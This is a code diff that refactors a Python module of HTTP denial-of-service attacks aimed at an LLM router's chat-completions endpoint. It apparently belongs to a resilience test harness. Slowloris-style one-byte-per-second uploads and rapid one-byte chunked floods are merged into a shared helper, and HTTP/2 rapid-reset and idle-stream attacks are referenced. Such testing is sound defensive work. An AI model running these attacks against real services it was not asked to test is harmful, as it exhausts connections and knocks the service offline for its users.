@@ -89,9 +89,9 @@ def _drain(s: socket.socket, c: h2.connection.H2Connection | None = None) -> boo
 # -- the attacks: each runs until `stop` is set ---------------------------------------
 
 
-def slow_body(addr: tuple[str, int], stop: threading.Event, n: int = 300) -> None:
-    """n HTTP/1.1 clients each sending its body at 1 byte per second (reconnecting)."""
-    body = _body()
+def _uploads(addr: tuple[str, int], stop: threading.Event, n: int, head: bytes, piece: bytes, every_s: float) -> None:
+    """n HTTP/1.1 uploads that send `head`, then `piece` every `every_s`; one that the
+    router closes (408, or a reset) is opened again."""
     socks: list[socket.socket | None] = [None] * n
     while not stop.is_set():
         for i in range(n):
@@ -99,19 +99,25 @@ def slow_body(addr: tuple[str, int], stop: threading.Event, n: int = 300) -> Non
             try:
                 if s is None:
                     s = socket.create_connection(addr, timeout=2)
-                    s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body))
+                    s.sendall(head)
                     socks[i] = s
-                s.sendall(b"{")
+                s.sendall(piece)
                 if not _drain(s):
                     raise OSError
             except OSError:
                 if s is not None:
                     s.close()
                 socks[i] = None
-        stop.wait(1.0)
+        stop.wait(every_s)
     for s in socks:
         if s is not None:
             s.close()
+
+
+def slow_body(addr: tuple[str, int], stop: threading.Event, n: int = 300) -> None:
+    """n HTTP/1.1 clients each sending its body at 1 byte per second (reconnecting)."""
+    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(_body())
+    _uploads(addr, stop, n, head, b"{", 1.0)
 
 
 def h2_idle_streams(addr: tuple[str, int], stop: threading.Event, connections: int = 2, streams: int = 520) -> None:
@@ -233,26 +239,8 @@ def rapid_reset(addr: tuple[str, int], stop: threading.Event) -> None:
 
 def chunked_one_byte(addr: tuple[str, int], stop: threading.Event, n: int = 8) -> None:
     """Chunked uploads in 1-byte chunks, as fast as the socket takes them."""
-    socks: list[socket.socket | None] = [None] * n
-    while not stop.is_set():
-        for i in range(n):
-            s = socks[i]
-            try:
-                if s is None:
-                    s = socket.create_connection(addr, timeout=2)
-                    s.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
-                    socks[i] = s
-                s.sendall(b"1\r\nx\r\n" * 2000)
-                if not _drain(s):
-                    raise OSError
-            except OSError:
-                if s is not None:
-                    s.close()
-                socks[i] = None
-        stop.wait(0.01)
-    for s in socks:
-        if s is not None:
-            s.close()
+    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
+    _uploads(addr, stop, n, head, b"1\r\nx\r\n" * 2000, 0.01)
 
 
 ATTACKS: dict[str, tuple[Callable[..., None], str]] = {
